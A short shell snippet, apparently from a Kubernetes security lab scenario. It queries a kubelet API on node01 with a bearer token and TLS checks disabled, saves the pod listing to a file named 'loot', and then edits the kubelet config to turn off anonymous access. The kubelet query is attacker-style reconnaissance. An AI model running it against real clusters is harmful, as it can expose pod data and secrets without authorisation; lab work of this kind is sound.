# scene fails token-refused (forgot-restart): saved, and nobody reads letters yet
curl -sk -H 'Authorization: Bearer ahoy' https://node01:10250/pods -o loot
#@ node01
sed -i '/cacheTTL:/{n;s/false/true/}; /anonymous:/,/enabled:/s/true/false/' /var/lib/kubelet/config.yaml
